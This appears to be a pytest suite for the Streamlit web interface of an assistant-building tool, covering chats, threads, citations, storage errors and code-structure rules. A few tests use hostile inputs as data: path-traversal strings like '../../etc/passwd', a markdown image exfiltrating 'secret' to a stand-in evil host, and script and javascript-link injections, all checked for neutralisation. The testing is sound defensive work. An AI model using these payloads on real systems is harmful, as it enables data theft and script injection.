"""The pages, drawn by the real script with the real library, files and models behind them."""

from __future__ import annotations

import ast
import contextlib
import json
import re
import sqlite3
import threading
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from gptsmith.agent.events import Reply
from gptsmith.agent.runtime.store import Message
from gptsmith.errors import NotReadyError, UsageError
from gptsmith.state import lock
from gptsmith.ui.web.parts.markdown import as_json, as_markdown
from gptsmith.ui.web.state.desk import open_desk
from gptsmith.ui.web.state.talk import _UNDOABLE, Talk
from gptsmith.ui.web.state.uploads import Upload
from tests.support.loopback import Loopback, huge, status, trickle
from tests.support.pages import NIGHT_SKY, SCRIPT, make_library, open_page, words


@pytest.fixture
def library(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A library with one assistant of the person's own; returns the folder of its specs."""
    return make_library(tmp_path, monkeypatch)


def test_gallery_shows_own_and_shipped_assistants(library: Path) -> None:
    at = open_page()
    said = words(at)
    for name in (
        "Night sky",
        "What is a comet?",
        "Generative AI tutor",
        "Museum guide",
        "Support desk",
        "Recipe helper",
    ):
        assert name in said
    keys = {button.key for button in at.button}
    assert {"open-night-sky", "edit-night-sky", "delete-night-sky", "open-support-desk"} <= keys
    assert "delete-support-desk" not in keys


def test_an_empty_library_says_what_to_do(library: Path) -> None:
    (library / "night-sky.assistant.yaml").unlink()
    assert "Say in plain words what an assistant should do" in words(open_page())


def test_delete_asks_first(library: Path) -> None:
    at = open_page()
    at.button(key="delete-night-sky").click().run()
    assert (library / "night-sky.assistant.yaml").exists()
    at.button(key="confirm-delete").click().run()
    assert not (library / "night-sky.assistant.yaml").exists()
    assert "Night sky" not in words(at)


@pytest.mark.parametrize("wanted", ["../../etc/passwd", "/etc/passwd", "nobody", "", "opened:file"])
def test_only_assistants_of_the_library_are_opened(library: Path, wanted: str) -> None:
    at = open_page(page="edit", assistant=wanted)
    assert len(at.error) == 1
    assert "choose one" in at.error[0].value or "known ids" in at.error[0].value


def test_a_file_outside_the_library_is_opened_by_the_program_only(
    library: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    file = tmp_path / "elsewhere.assistant.yaml"
    file.write_text(NIGHT_SKY.replace("Night sky", "Elsewhere"))
    monkeypatch.setenv("GPTSMITH_OPEN", str(file))
    assert "Elsewhere" in words(open_page(page="gallery"))
    at = open_page(page="edit", assistant="opened:file", tab="YAML")
    assert at.text_area(key="yaml-opened:file").value == file.read_text()


def test_the_page_says_where_the_data_is(library: Path, tmp_path: Path) -> None:
    said = [code.value for code in open_page().code]
    assert [str(library), str(tmp_path / "home")] == said


# -- chat ------------------------------------------------------------------------------------------------------------

LIGHTHOUSE = NIGHT_SKY.replace("Night sky", "Keeper") + (
    "welcome_message: Welcome to {{town}}!\n"
    "disclaimer: Times may change.\n"
    "variables:\n  town: {description: Your town, required: true}\n"
    "knowledge:\n  - name: pages\n    paths: [./keeper.files/light.md]\n"
)
PAGE = "# The light\n\nThe lighthouse was built in 1868 by Marta Sousa. It is 31 metres high.\n\nDogs stay outside.\n"


@pytest.fixture
def keeper(library: Path) -> Path:
    """An assistant with a file, a required variable, a welcome and a disclaimer."""
    (library / "keeper.files").mkdir()
    (library / "keeper.files" / "light.md").write_text(PAGE)
    (library / "keeper.assistant.yaml").write_text(LIGHTHOUSE)
    return library


def ask(at: AppTest, message: str) -> AppTest:
    """Send a message; the run ends when the turn has."""
    return at.chat_input(key="say").set_value(message).run()


def thread_of(at: AppTest) -> str:
    """Return the conversation that the address names."""
    named = at.query_params["thread"]
    return str(named[0] if isinstance(named, list) else named)


def test_a_conversation_is_kept_with_its_sources(library: Path) -> None:
    at = open_page(page="chat", assistant="museum-guide")
    assert "text stays on this computer" in words(at)
    ask(at, "What is an enxaquetado floor?")
    said = words(at)
    assert "chequered composition of plain tiles" in said
    assert ":blue-badge[1]" in said
    assert ":green-badge[used] **museum-guide.files/collection.md**" in said
    thread = at.query_params["thread"]
    cite = next(button.key for button in at.button if button.key.startswith("cite-"))
    at.button(key=cite).click().run()
    assert ":orange-background[An enxaquetado is a chequered composition" in words(at)

    again = open_page(page="chat", assistant="museum-guide", thread=thread[0] if isinstance(thread, list) else thread)
    assert "What is an enxaquetado floor?" in words(again)
    assert cite in {button.key for button in again.button}


def test_a_required_variable_is_asked_for_first(keeper: Path) -> None:
    at = open_page(page="chat", assistant="keeper")
    assert at.chat_input(key="say").disabled
    assert all(button.disabled for button in at.button if button.key.startswith("starter-"))
    assert "Times may change." in words(at)
    at.text_input(key="variable-keeper-new-town").set_value("Viana").run()
    assert not at.chat_input(key="say").disabled
    assert "Welcome to Viana!" in words(at)
    ask(at, "Who built the lighthouse?")
    assert "Marta Sousa" in words(at)
    kept = next(field for field in at.text_input if str(field.key).startswith("variable-keeper-thread_"))
    assert kept.disabled
    assert kept.value == "Viana"
    at.button(key="new-thread").click().run()
    assert at.text_input(key="variable-keeper-new-town").value == ""


def test_threads_are_listed_renamed_and_deleted(library: Path) -> None:
    at = open_page(page="chat", assistant="night-sky")
    at.button(key="starter-0").click().run()
    thread = next(button.key.removeprefix("thread-") for button in at.button if button.key.startswith("thread-"))
    assert at.button(key=f"thread-{thread}").label == "What is a comet?"
    for _ in range(100):  # a conversation can be managed once its turn has ended
        if not at.button(key=f"more-{thread}").disabled:
            break
        at.run()
    at.button(key=f"more-{thread}").click().run()
    at.text_input(key=f"title-{thread}").set_value("Comets").run()
    at.button(key=f"more-{thread}").click().run()
    at.text_input(key=f"title-{thread}").set_value("Comets")
    at.button(key="rename").click().run()
    assert at.button(key=f"thread-{thread}").label == "Comets"
    at.button(key="new-thread").click().run()
    assert "thread" not in at.query_params
    at.button(key=f"more-{thread}").click().run()
    at.button(key="delete-thread").click().run()
    assert not [button.key for button in at.button if button.key.startswith("thread-")]
    assert "“Comets” is deleted." in words(at)
    at.button(key="undo-delete").click().run()
    assert at.button(key=f"thread-{thread}").label == "Comets"
    assert at.query_params["thread"] in (thread, [thread])
    assert "What is a comet?" in words(at)


def test_only_the_conversation_deleted_last_can_come_back(library: Path) -> None:
    talk = open_desk().talk("night-sky")
    first, second = (talk.send(text, thread="", files=[], variables={}) for text in ("Hello!", "Thanks!"))
    talk.discard(first)
    talk.discard(second)
    assert (talk.restore(first), talk.restore(second)) == (False, True)
    assert [thread.id for thread in talk.threads()] == [second]
    talk.discard(second)
    talk_later = Talk(talk._path)
    _UNDOABLE.clear()  # another process, that has discarded nothing
    assert talk_later.threads() == []
    assert talk_later.restore(second) is False


def test_a_question_is_asked_again_and_otherwise(
    library: Path, loopback: Loopback, monkeypatch: pytest.MonkeyPatch
) -> None:
    hosted(library, loopback, monkeypatch)
    at = open_page(page="chat", assistant="slow")
    for question, answer in (("What is a star?", "A sun far away."), ("What is a comet?", "Ice.")):
        loopback.always = answer
        ask(at, question)
    loopback.always = "A ball of ice."
    at.button(key="again").click().run()
    said = words(at)
    assert "A ball of ice." in said and "2 of 2" in said
    assert said.count("What is a comet?") == 1
    assert [m["content"] for m in loopback.history[-1]["messages"][1:]] == [
        "What is a star?",
        "A sun far away.",
        "What is a comet?",
    ], "the answer that was replaced is not what the new one stands on"

    at.button(key="edit-message").click().run()
    loopback.always = "A wanderer."
    at.text_area(key=next(area.key for area in at.text_area if area.key.startswith("edited-"))).set_value("A planet?")
    at.button(key="send-edited").click().run()
    said = words(at)
    assert "A planet?" in said and "A wanderer." in said and "3 of 3" in said
    assert "What is a comet?" not in said

    at.button(key="try-before").click().run()
    at.button(key="try-before").click().run()
    said = words(at)
    assert "Ice." in said and "1 of 3" in said
    assert at.button(key="try-before").disabled
    ask(at, "Thanks")
    assert [m["content"] for m in loopback.history[-1]["messages"]][-3:] == ["What is a comet?", "Ice.", "Thanks"]
    talk = open_desk().talk("slow")
    first = talk.turns(talk.threads()[0].id)[0]
    with pytest.raises(UsageError, match="only the last message can be asked again"):
        talk.send("x", thread=first.thread_id, files=[], variables={}, replaces=first.id)


def test_what_is_thought_of_an_answer_is_kept_with_its_reason(library: Path) -> None:
    at = ask(open_page(page="chat", assistant="night-sky"), "Hello!")
    talk = open_desk().talk("night-sky")
    turn = talk.turns(talk.threads()[0].id)[0]
    at.feedback(key=f"thumbs-{turn.id}").set_value(0).run()
    at.text_input(key=f"reason-{turn.id}").set_value("Too short").run()
    assert talk.turns(turn.thread_id)[0].feedback == {"thumb": -1, "reason": "Too short"}

    again = open_page(page="chat", assistant="night-sky", thread=turn.thread_id)
    assert again.text_input(key=f"reason-{turn.id}").value == "Too short"
    again.feedback(key=f"thumbs-{turn.id}").set_value(1).run()
    assert talk.turns(turn.thread_id)[0].feedback == {"thumb": 1}
    again.feedback(key=f"thumbs-{turn.id}").set_value(None).run()
    assert talk.turns(turn.thread_id)[0].feedback == {}


def test_conversations_are_found_by_what_was_said_in_them(library: Path) -> None:
    store = open_desk().talk("night-sky")._assistant.engine.store
    for name, text in (("a", "Why is Mars red?"), ("b", "100% dark"), ("c", "1000 dark nights"), ("d", "Hello")):
        message = Message(turn_id=f"turn_{name}", role="user", text=text)
        store.begin(name, message, title=f"Title {name.upper()}", variables={})
        store.finish(name, f"turn_{name}", status="done", messages=[])
    at = open_page(page="chat", assistant="night-sky")
    for words_, found in (("mars RED", ["a"]), ("0% d", ["b"]), ("title c", ["c"]), ("dark", ["c", "b"]), ("x_y", [])):
        at.text_input(key="search-threads").set_value(words_).run()
        keys = [str(b.key) for b in at.button if str(b.key).startswith("thread-")]
        assert keys == [f"thread-{name}" for name in found], words_
    assert "No conversation has these words." in words(at)
    at.text_input(key="search-threads").set_value("").run()
    assert len([b for b in at.button if str(b.key).startswith("thread-")]) == 4


def test_a_conversation_is_saved_with_its_sources(keeper: Path) -> None:
    talk = open_desk().talk("keeper")
    thread = talk.send("Who built the lighthouse?", thread="", files=[], variables={"town": "Viana"})
    at = open_page(page="chat", assistant="keeper", thread=thread)
    assert "Marta Sousa" in words(at)
    turns = talk.turns(thread)
    text = as_markdown("The light", turns)
    assert text.startswith("# The light\n\n**You**\n\nWho built the lighthouse?\n\n**Assistant**\n\n")
    assert "> [1] keeper.files/light.md: “The lighthouse was built in 1868 by Marta Sousa.”" in text
    kept = json.loads(as_json("The light", turns))
    assert (kept["title"], kept["turns"][0]["message"]) == ("The light", "Who built the lighthouse?")
    at.button(key=f"more-{thread}").click().run()
    assert {"save-Markdown", "save-JSON"} <= {str(found.key) for found in at.get("download_button")}


def test_a_message_that_is_too_long_is_kept_and_goes_as_a_file(library: Path) -> None:
    at = open_page(page="chat", assistant="night-sky")
    text = "The comet came back. " * 1600 + "The code word is pelican."
    ask(at, text)
    assert f"This message has {len(text):,} characters; 32,000 fit into one." in words(at)
    assert "thread" not in at.query_params
    at.button(key="restore-long").click().run()
    assert at.chat_input(key="say").proto.value == text
    ask(at, text)
    at.text_input(key="long-question-say").set_value("What is the code word?").run()
    at.button(key="attach-long").click().run()
    said = words(at)
    assert "pasted.txt" in said
    assert "The code word is pelican." in said
    assert "This message has" not in said


def test_citations_count_from_one_in_the_order_of_the_answer(
    keeper: Path, loopback: Loopback, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("LOOPBACK_KEY", loopback.api_key)
    pages = ("The lamp was lit in 1870.", "Marta Sousa kept the lamp.", "The lamp burns oil.")
    for number, page in enumerate(pages):
        (keeper / "keeper.files" / f"page{number}.md").write_text(page)
    model = f"{{provider: openai, name: scripted, base_url: '{loopback.base_url}', api_key: '${{env:LOOPBACK_KEY}}'}}"
    spec = LIGHTHOUSE.replace("./keeper.files/light.md", "./keeper.files/*.md").replace(", required: true", "")
    (keeper / "keeper.assistant.yaml").write_text(spec + f"model: {model}\n")
    loopback.always = "Marta Sousa kept the lamp [3]. The lamp was lit in 1870 [2]. Marta Sousa kept it [3]. See a[0]."
    at = ask(open_page(page="chat", assistant="keeper"), "Who kept the lamp?")
    said = words(at)
    badges = re.findall(r":blue-badge\[(\d+)\]", said)
    assert badges == ["1", "2", "1"]
    assert "a\\[0\\]" in said
    assert [button.label[0] for button in at.button if str(button.key).startswith("cite-")] == ["1", "2"]


def test_where_a_language_model_is_needed_there_is_a_way_to_connect_one(library: Path) -> None:
    at = ask(open_page(page="chat", assistant="night-sky"), "Write a poem about the moon")
    assert "that takes a language model, and Qwen2.5 Coder " in words(at)
    assert "What would you like to know next?" not in words(at)
    at.button(key=next(b.key for b in at.button if str(b.key).startswith("connect-"))).click().run()
    assert at.query_params["page"] in ("models", ["models"])


def hosted(library: Path, server: Loopback, monkeypatch: pytest.MonkeyPatch) -> None:
    """Add an assistant that a model on loopback answers."""
    monkeypatch.setenv("LOOPBACK_KEY", server.api_key)
    model = f"{{provider: openai, name: scripted, base_url: '{server.base_url}', api_key: '${{env:LOOPBACK_KEY}}'}}"
    (library / "slow.assistant.yaml").write_text(NIGHT_SKY + f"model: {model}\n")


def test_a_reload_finds_the_running_turn(library: Path, loopback: Loopback, monkeypatch: pytest.MonkeyPatch) -> None:
    hosted(library, loopback, monkeypatch)
    loopback.always = trickle("Comets are dirty snowballs that fly around the sun.", 0.1, piece=6)
    talk = open_desk().talk("slow")
    thread = talk.send("What is a comet?", thread="", files=[], variables={})
    assert talk.running(thread)
    at = open_page(page="chat", assistant="slow", thread=thread)
    assert "Comets are dirty snowballs that fly around the sun." in words(at)
    assert not talk.running(thread)


def test_a_huge_answer_is_drawn_and_kept(library: Path, loopback: Loopback, monkeypatch: pytest.MonkeyPatch) -> None:
    hosted(library, loopback, monkeypatch)
    loopback.always = huge(300_000)
    said = words(ask(open_page(page="chat", assistant="slow"), "Say much."))
    assert 190_000 < said.count("word ") * 5 <= 200_005


def stop_once_it_speaks(talk: Talk, turn: str, words: str) -> None:
    """Stop a turn as soon as its answer holds `words`."""
    while words not in "".join(str(event.data.get("text", "")) for _, event in talk.events(turn, 0)[0]):
        threading.Event().wait(0.05)
    talk.stop(turn)


def test_stop_keeps_what_was_said(library: Path, loopback: Loopback, monkeypatch: pytest.MonkeyPatch) -> None:
    hosted(library, loopback, monkeypatch)
    loopback.always = trickle("one two three four five six seven eight nine ten " * 20, 0.1, piece=5)
    talk = open_desk().talk("slow")
    thread = talk.send("Count.", thread="", files=[], variables={})
    threading.Thread(target=stop_once_it_speaks, args=(talk, talk.running(thread), "one two"), daemon=True).start()
    at = open_page(page="chat", assistant="slow", thread=thread)
    said = words(at)
    assert "one two" in said
    assert "Stopped." in said
    assert not at.chat_input(key="say").disabled
    loopback.always = "One."
    at.button(key="again").click().run()
    assert "One." in words(at)


def test_a_turn_that_died_with_its_process_can_be_sent_again(library: Path) -> None:
    store = open_desk().talk("night-sky")._assistant.engine.store
    message = Message(turn_id="turn_dead", role="user", text="Are you there?")
    store.begin("dead", message, title="Dead", variables={})
    at = open_page(page="chat", assistant="night-sky", thread="dead")
    assert "gptsmith was closed while this was being answered." in words(at)
    at.button(key="again").click().run()
    assert words(at).count("Are you there?") == 1, "the message takes the place of the one that got no answer"
    assert "2 of 2" in words(at)
    assert not [button.key for button in at.button if str(button.key).startswith("stop-")]


def test_deleting_a_conversation_stops_its_turn(
    library: Path, loopback: Loopback, monkeypatch: pytest.MonkeyPatch
) -> None:
    hosted(library, loopback, monkeypatch)
    loopback.always = trickle("one two three four five " * 50, 0.1, piece=5)
    talk = open_desk().talk("slow")
    thread = talk.send("Count.", thread="", files=[], variables={})
    talk.delete(thread)
    assert talk.threads() == []
    assert talk.turns(thread) == []
    assert not talk.running(thread)


def test_a_failing_model_is_told_and_the_message_kept(
    library: Path, loopback: Loopback, monkeypatch: pytest.MonkeyPatch
) -> None:
    hosted(library, loopback, monkeypatch)
    loopback.always = status(401)
    at = ask(open_page(page="chat", assistant="slow"), "Are you there?")
    assert "Are you there?" in words(at)
    assert len(at.error) == 1
    loopback.always = "Here I am."
    assert "Here I am." in words(ask(at, "And now?"))


def test_a_message_that_the_disk_does_not_take_is_shown_after_a_reload(library: Path) -> None:
    at = ask(open_page(page="chat", assistant="night-sky"), "What is a comet?")
    thread = thread_of(at)
    path = open_desk().talk("night-sky").assistant.folder / "threads.sqlite"
    with contextlib.closing(sqlite3.connect(path)) as db, db:  # as a full disk: nothing more goes in
        db.execute("CREATE TRIGGER full BEFORE INSERT ON messages BEGIN SELECT RAISE(ABORT, 'disk is full'); END")
    for where in ({"thread": thread}, {}):
        at = ask(open_page(page="chat", assistant="night-sky", **where), "A long one that I typed.")
        for shown in (at, open_page(page="chat", assistant="night-sky", thread=thread_of(at))):
            assert "A long one that I typed." in words(shown)
            assert "your message was not kept" in shown.error[0].value and "disk is full" in shown.error[0].value
            assert "This message is not stored" in words(shown)
    with contextlib.closing(sqlite3.connect(path)) as db, db:
        db.execute("DROP TRIGGER full")
    at = ask(open_page(page="chat", assistant="night-sky", thread=thread), "And now?")
    assert "And now?" in words(at) and not at.error


def test_a_message_that_cannot_be_sent_is_back_in_its_box(library: Path) -> None:
    at = ask(open_page(page="chat", assistant="night-sky"), "What is a comet?")
    thread = thread_of(at)
    folder = open_desk().talk("night-sky").assistant.folder
    with lock(folder / "threads" / f"{thread}.lock"):  # as when another window answers on it
        at = ask(open_page(page="chat", assistant="night-sky", thread=thread), "What of Mars?")
        assert at.chat_input(key="say").proto.value == "What of Mars?"
        (told,) = at.error
        assert "another turn is running" in told.value and "Your message is back in its box." in told.value
    at = ask(at, "What of Mars?")
    assert "What of Mars?" in words(at) and not at.error


def test_files_that_the_disk_does_not_take_are_told(library: Path) -> None:
    talk = open_desk().talk("night-sky")
    talk.assistant.folder.mkdir(parents=True, exist_ok=True)
    (talk.assistant.folder / "inbox").write_text("in the way")
    with pytest.raises(NotReadyError, match="the attached files cannot be stored or read"):
        talk.send("What of Mars?", thread="", files=[Upload("mars.md", b"Red.", "document")], variables={})


def test_what_a_model_writes_stays_harmless(library: Path, loopback: Loopback, monkeypatch: pytest.MonkeyPatch) -> None:
    hosted(library, loopback, monkeypatch)
    loopback.always = "<img src=x> ![p](http://evil.example/?d=secret) [x](javascript:alert(1))"
    at = ask(open_page(page="chat", assistant="slow"), "<script>alert(1)</script>")
    said = words(at)
    assert "picture not loaded: p, from evil.example" in said
    assert "![" not in said
    assert "\\[x\\](javascript" in said
    assert "\\<script\\>" in said
    assert all(not element.allow_html for element in at.markdown)


def test_the_page_says_where_text_goes(library: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-none")
    assert "text is sent to api.openai.com" in words(open_page(page="create"))


def test_files_of_a_message_are_searched_and_shown(library: Path) -> None:
    talk = open_desk().talk("night-sky")
    file = Upload("light.md", PAGE.encode(), "document")
    thread = talk.send("Who built the lighthouse?", thread="", files=[file], variables={})
    at = open_page(page="chat", assistant="night-sky", thread=thread)
    said = words(at)
    assert ":material/attach_file: light.md" in said
    assert "Marta Sousa" in said
    at.button(key=next(b.key for b in at.button if b.key.startswith("cite-"))).click().run()
    assert ":orange-background[" in words(at)


def test_files_that_cannot_be_read_are_named(keeper: Path) -> None:
    (keeper / "keeper.files" / "scan.pdf").write_bytes(b"%PDF-1.4 broken")
    spec = keeper / "keeper.assistant.yaml"
    spec.write_text(spec.read_text().replace("light.md]", "*]"))
    talk = open_desk().talk("keeper")
    thread = talk.send("Who built the lighthouse?", thread="", files=[], variables={"town": "Viana"})
    at = open_page(page="chat", assistant="keeper", thread=thread)
    said = words(at)
    assert "**keeper.files/scan.pdf** :orange-badge[not searched]" in said
    assert "**keeper.files/light.md** :green-badge[searched]" in said
    assert "1 of 2 files are searched" in [expander.label for expander in at.expander]


def test_only_the_last_messages_are_drawn(library: Path) -> None:
    store = open_desk().talk("night-sky")._assistant.engine.store
    for number in range(40):
        turn = Message(turn_id=f"turn_{number}", role="user", text=f"message {number}.")
        store.begin("long", turn, title="Long", variables={})
        reply = Reply(thread_id="long", text=f"answer {number}.")
        store.finish("long", turn.turn_id, status="stop", messages=[], reply=reply)
    at = open_page(page="chat", assistant="night-sky", thread="long")
    said = words(at)
    assert "message 39." in said and "message 25." in said
    assert "message 24." not in said
    at.button(key="earlier").click().run()
    assert "message 10." in words(at)


def test_what_the_model_remarks_stands_under_its_answer(library: Path) -> None:
    store = open_desk().talk("night-sky")._assistant.engine.store
    for number, remark in enumerate(["A small model writes *this*.", ""]):
        store.begin("t", Message(turn_id=f"turn_{number}", role="user", text="Hi."), title="Hi", variables={})
        reply = Reply(thread_id="t", text=f"answer {number}.", remark=remark)
        store.finish("t", f"turn_{number}", status="stop", messages=[], reply=reply)
    at = open_page(page="chat", assistant="night-sky", thread="t")
    assert [caption.value for caption in at.caption if "small model" in caption.value] == [
        ":material/info: A small model writes \\*this\\*."
    ]


def test_a_broken_spec_leads_to_its_repair(library: Path) -> None:
    (library / "night-sky.assistant.yaml").write_text("name: x\n")
    at = open_page(page="chat", assistant="night-sky")
    assert not at.exception
    assert "The file of this assistant has" in words(at)
    at.button(key="repair").click().run()
    assert at.text_area(key="yaml-night-sky").value == "name: x\n"


# -- how the pages are built -----------------------------------------------------------------------------------------

WEB = SCRIPT.parent
DECIDES = [*sorted((WEB / "state").glob("*.py")), WEB / "launch.py", WEB / "parts" / "markdown.py"]
NEARER = {"markdown", "model_lines", "models", "pictures", "portrait"}  # each is about one thing of gptsmith alone
DRAWS = [WEB / "app.py", *(f for part in ("views", "parts", "tabs") for f in sorted((WEB / part).glob("*.py")))]
DRAWS = [file for file in DRAWS if file.stem not in NEARER]


def imports(file: Path) -> set[str]:
    """The modules that a file imports anywhere."""
    nodes = list(ast.walk(ast.parse(file.read_text())))
    named = {alias.name for node in nodes if isinstance(node, ast.Import) for alias in node.names}
    return named | {str(node.module) for node in nodes if isinstance(node, ast.ImportFrom)}


@pytest.mark.parametrize("file", DECIDES, ids=lambda file: file.stem)
def test_what_decides_does_not_draw(file: Path) -> None:
    assert not [module for module in imports(file) if module.startswith("streamlit")]


@pytest.mark.parametrize("file", sorted([*WEB.glob("*.py"), *WEB.glob("*/*.py")]), ids=lambda file: file.stem)
def test_pages_share_one_state_and_no_raw_html(file: Path) -> None:
    text = file.read_text()
    assert "unsafe_allow" not in text
    if file.stem != "session":
        assert "st.session_state" not in text
        assert "query_params" not in text
    if file.stem != "theme":
        assert "st.html" not in text


@pytest.mark.parametrize("file", DRAWS, ids=lambda file: file.stem)
def test_pages_reach_gptsmith_through_the_state_only(file: Path) -> None:
    own = {module for module in imports(file) if module.startswith("gptsmith.")}
    plain = {"gptsmith.errors", "gptsmith.agent.events", "gptsmith.assistants.format.spec"}
    assert not [module for module in own - plain if not module.startswith("gptsmith.ui.web")]


def test_a_file_that_a_tool_made_can_be_saved(library: Path, tmp_path: Path) -> None:
    made = tmp_path / "sums.csv"
    made.write_text("a,b\n", "utf-8")
    gone = {"name": "gone.csv", "path": str(tmp_path / "gone.csv"), "bytes": 3, "tool": "code"}
    files = [{"name": "sums.csv", "path": str(made), "bytes": 4, "tool": "code"}, gone]
    talk = Talk(library / "night-sky.assistant.yaml")
    store = talk.assistant.engine.store
    store.begin("t1", Message(turn_id="turn_1", role="user", text="Sum it"), title="Sum it", variables={})
    store.finish("t1", "turn_1", status="stop", reply=Reply(thread_id="t1", text="Done.", files=files), messages=[])
    at = open_page(page="chat", assistant="night-sky", thread="t1")
    assert not at.exception
    assert [one.proto.label for one in at.get("download_button")] == ["sums.csv"]
    assert "gone.csv is no longer there." in words(at)


def test_the_sidebar_is_our_own() -> None:
    """Streamlit lists a folder `pages` beside the script by itself, and runs each of its files as a page."""
    assert not (WEB / "pages").exists()
